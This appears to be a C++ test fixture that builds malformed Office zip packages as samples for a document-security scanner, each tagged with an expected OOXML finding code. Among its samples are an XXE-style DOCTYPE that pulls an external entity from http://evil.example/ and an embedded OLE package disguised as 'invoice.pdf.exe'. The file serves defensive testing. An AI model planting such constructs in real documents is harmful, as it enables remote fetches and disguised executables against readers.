// The container of Office documents: what stands around, between and instead of its members.
#include <string>

#include "tests/support/office_samples.h"
#include "tests/support/ooxml_snippets.h"
#include "tests/support/zip_builder.h"

namespace mugai::testing {
namespace {

using B = OoxmlBuilder;
using namespace snippet;
using std::string;

// The members of an honest document.
ZipFile container() {
  ZipFile file;
  for (auto& [name, bytes] : unzip(word(text("inside")))) {
    ZipMember member;
    member.name = name;
    member.data = bytes;
    member.method = 8;
    file.members.push_back(std::move(member));
  }
  return file;
}
Buffer built(const ZipFile& file) {
  const string bytes = build_zip(file);
  return {bytes.begin(), bytes.end()};
}
Buffer after(void (*change)(ZipFile&)) {
  ZipFile file = container();
  change(file);
  return built(file);
}
// The second member's data holds the third one, whole or its first bytes, and all are listed.
Buffer overlapping(std::size_t shared_bytes = 30 + 6 + 5) {
  const string types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";
  const string inner = build_stored_zip({{"in.txt", "inner"}});
  const std::size_t inner_bytes = 30 + 6 + 5;
  const std::size_t at = 30 + 19 + types.size() + 30 + 17;  // of the second member's data
  ZipFile file;
  for (const auto& [name, data] : {std::pair<string, string>{"[Content_Types].xml", types},
                                   {"word/document.xml", inner.substr(0, shared_bytes)},
                                   {"in.txt", "inner"}}) {
    ZipMember member;
    member.name = name;
    member.data = data;
    file.members.push_back(std::move(member));
  }
  file.members[2].offset = static_cast<std::uint32_t>(at);
  string bytes = build_zip(file);
  // The third member's own place holds what is not shared.
  bytes.replace(at + shared_bytes, inner_bytes, inner.substr(shared_bytes, inner_bytes - shared_bytes));
  bytes.replace(bytes.rfind("PK\x05\x06") + 16, 4, le32(at + inner_bytes));
  return {bytes.begin(), bytes.end()};
}
Buffer with(const string& name, const string& data, std::uint16_t method = 8) {
  ZipFile file = container();
  ZipMember member;
  member.name = name;
  member.data = data;
  member.method = method;
  file.members.push_back(std::move(member));
  return built(file);
}
// A document whose text is `bytes`, whatever their encoding.
Buffer main_part(const string& bytes) {
  B b = B::docx("");
  return b.replace(kDoc, bytes).build();
}
string wide(const string& text) {
  string out = "\xFE\xFF";
  for (const char c : text)
    out += string(1, '\0') + c;
  return out;
}
// An object whose data names a program (MS-OLEDS: the stream "\1Ole10Native").
string native_object() {
  string stream("\1\0O\0l\0e\0", 8);
  stream += string("1\0000\0N\0a\0t\0i\0v\0e\0", 16);
  return "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1" + string(100, '\0') + stream + "invoice.pdf.exe PAYLOAD";
}

}  // namespace

std::span<const Sample> package_samples() {
  static const std::vector<Sample> samples = {
      {"ooxml/types-missing",
       "a.docx",
       true,
       {"OOXML-006"},
       {},
       {},
       [] { return after([](ZipFile& f) { f.members.erase(f.members.begin()); }); }},
      {"ooxml/types-renamed",
       "a.docx",
       true,
       {"OOXML-006"},
       {},
       {},
       [] { return after([](ZipFile& f) { f.members[0].name = "word/[Content_Types].xml"; }); }},
      {"ooxml/types-case",
       "a.docx",
       false,
       {"OOXML-006"},
       {"[content_TYPES].xml"},
       {"inside"},
       [] { return after([](ZipFile& f) { f.members[0].name = "[content_TYPES].xml"; }); }},
      {"ooxml/self-relation-deep",
       "a.pptx",
       false,
       {"OOXML-014"},
       {},
       {"p:sld"},
       [] {
         B b = B::pptx("");
         return b.relate(kSlide, "rId5", "O:slide", "./../slides/slide1.xml").build();
       }},
      {"ooxml/zip-prefix",
       "a.docx",
       false,
       {"OOXML-025"},
       {"MZ-PREFIX"},
       {"inside"},
       [] { return after([](ZipFile& f) { f.prefix = "#MZ-PREFIX"; }); }},
      {"ooxml/zip-prefix-uncounted",
       "a.docx",
       false,
       {"OOXML-025"},
       {"<html>"},
       {"inside"},
       [] {
         return after([](ZipFile& f) {
           f.prefix = "#<html>";
           f.prefix_counted = false;
         });
       }},
      {"ooxml/zip-descriptor",
       "a.docx",
       true,
       {"OOXML-028"},
       {},
       {},
       [] {
         return after([](ZipFile& f) {
           f.members[1].flags = 8;
           f.members[1].descriptor = "PK\7\10" + le32(1) + le32(2) + le32(3);
         });
       }},
      {"ooxml/zip-descriptor-short",
       "a.docx",
       true,
       {"OOXML-028"},
       {},
       {},
       [] {
         return after([](ZipFile& f) {
           f.members[1].flags = 8;
           f.members[1].descriptor = "PK";
         });
       }},
      {"ooxml/zip-descriptor-clean",
       "a.docx",
       false,
       {},
       {},
       {"inside"},
       [] { return after([](ZipFile& f) { f.members[1].flags = 8; }); }},
      {"ooxml/zip-overlap", "a.docx", true, {"OOXML-031"}, {}, {}, [] { return overlapping(); }},
      // Each anomaly of the container once more, in another form
      {"ooxml/zip-duplicate-types",
       "a.docx",
       true,
       {"OOXML-001"},
       {},
       {},
       [] { return with("[Content_Types].xml", "<Types/>"); }},
      {"ooxml/zip-duplicate-case-types",
       "a.docx",
       true,
       {"OOXML-002"},
       {},
       {},
       [] { return with("[content_types].XML", "<Types/>"); }},
      {"ooxml/zip-name-absolute",
       "a.docx",
       true,
       {"OOXML-003"},
       {},
       {},
       [] { return with("word\\document2.xml", "x"); }},
      {"ooxml/zip-piece-last",
       "a.docx",
       true,
       {"OOXML-004"},
       {},
       {},
       [] { return with("word/document.xml/[1].LAST.piece", "x"); }},
      {"ooxml/two-mains-strict",
       "a.docx",
       true,
       {"OOXML-008"},
       {},
       {},
       [] {
         return B::docx(p(text("x")))
             .relate("", "rId2", "http://purl.oclc.org/ooxml/officeDocument/relationships/officeDocument",
                     "/word/document.xml")
             .build();
       }},
      {"ooxml/duplicate-id-root",
       "a.docx",
       true,
       {"OOXML-011"},
       {},
       {},
       [] { return B::docx(p(text("x"))).relate("", "rId1", "O:extended-properties", "docProps/app.xml").build(); }},
      {"ooxml/dtd-wide",
       "a.docx",
       true,
       {"OOXML-015"},
       {},
       {},
       [] {
         return main_part(
             wide("<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<!-- c -->\n<!DOCTYPE w:document\n[<!ENTITY % p SYSTEM "
                  "\"http://evil.example/\">%p;]><w:document" +
                  string(kWordNamespaces) + "/>"));
       }},
      {"ooxml/encoding-ebcdic",
       "a.docx",
       true,
       {"OOXML-016"},
       {},
       {},
       [] { return main_part("<?xml version='1.0' encoding='IBM037'?><w:document" + string(kWordNamespaces) + "/>"); }},
      {"ooxml/illegal-reference", "a.docx", true, {"OOXML-017"}, {}, {}, [] { return word(text("a&#x0;")); }},
      {"ooxml/zip-member-comment",
       "a.docx",
       false,
       {"OOXML-026"},
       {"hidden words"},
       {"inside"},
       [] {
         return after([](ZipFile& f) {
           f.members[1].comment = "hidden words";
           f.members[2].extra = extra_field(0x9999, "hidden words");
         });
       }},
      {"ooxml/zip-header-method-lies",
       "a.docx",
       true,
       {"OOXML-027"},
       {},
       {},
       [] { return after([](ZipFile& f) { f.members[1].local_method = 0; }); }},
      {"ooxml/zip-encrypted-strongly",
       "a.docx",
       true,
       {"OOXML-029"},
       {},
       {},
       [] { return after([](ZipFile& f) { f.members[2].flags = 0x41; }); }},
      {"ooxml/zip-method-aes", "a.docx", true, {"OOXML-030"}, {}, {}, [] { return with("word/a.xml", "x", 14); }},
      {"ooxml/zip-overlap-partly", "a.docx", true, {"OOXML-031"}, {}, {}, [] { return overlapping(38); }},
      {"ooxml/zip-crc-of-types",
       "a.docx",
       true,
       {"OOXML-033"},
       {},
       {},
       [] { return after([](ZipFile& f) { f.members[0].crc = 0; }); }},
      {"ooxml/zip-two-ends",
       "a.docx",
       true,
       {"OOXML-032"},
       {},
       {},
       [] { return after([](ZipFile& f) { f.comment = "PK\5\6" + string(18, '\0'); }); }},
      {"ooxml/zip-zip64-lie",
       "a.docx",
       true,
       {"OOXML-032"},
       {},
       {},
       [] {
         return after([](ZipFile& f) {
           f.zip64 = true;
           f.zip64_count_lie = 1;
         });
       }},
      {"ooxml/zip-symlink",
       "a.docx",
       false,
       {"OOXML-034"},
       {},
       {"inside"},
       [] {
         return after([](ZipFile& f) {
           f.members[2].made_by = 0x0314;
           f.members[2].attributes = 0120777U << 16U;
         });
       }},
      {"ooxml/zip-device",
       "a.docx",
       false,
       {"OOXML-034"},
       {},
       {"inside"},
       [] {
         return after([](ZipFile& f) {
           f.members[1].made_by = 0x0314;
           f.members[1].attributes = 0020666U << 16U;
         });
       }},
      {"ooxml/ole-native",
       "a.docx",
       false,
       {"OOXML-050", "OOXML-045"},
       {"PAYLOAD", "OLEObject"},
       {"v:shape"},
       [] {
         B b =
             B::docx(p("<w:r><w:object><v:shape id=\"s\"/><o:OLEObject Type=\"Embed\" ProgID=\"Package\" "
                       "r:id=\"rId9\"/></w:object></w:r>"));
         b.part("word/embeddings/oleObject1.bin", "V:oleObject", native_object());
         return b.relate(kDoc, "rId9", "O:oleObject", "embeddings/oleObject1.bin").build();
       }},
      {"ooxml/ole-native-renamed",
       "a.pptx",
       false,
       {"OOXML-050"},
       {"PAYLOAD"},
       {},
       [] {
         B b = slide(object_frame("4", kPreview), "");
         b.part("ppt/media/image1.png", "V:oleObject", native_object());
         return b.relate(kSlide, "rId77", "O:oleObject", "/ppt/media/image1.png").build();
       }},
      {"ooxml/prefixes-clean",
       "a.docx",
       false,
       {},
       {"zz:"},
       {"<w:t>inside", "w:body"},
       [] {
         B b = B::docx("");
         return b
             .replace(kDoc,
                      "<zz:document xmlns:zz=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><body "
                      "xmlns=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><zz:p><r><zz:t>inside</"
                      "zz:t></r></zz:p></body></zz:document>")
             .build();
       }},
  };
  return samples;
}

}  // namespace mugai::testing
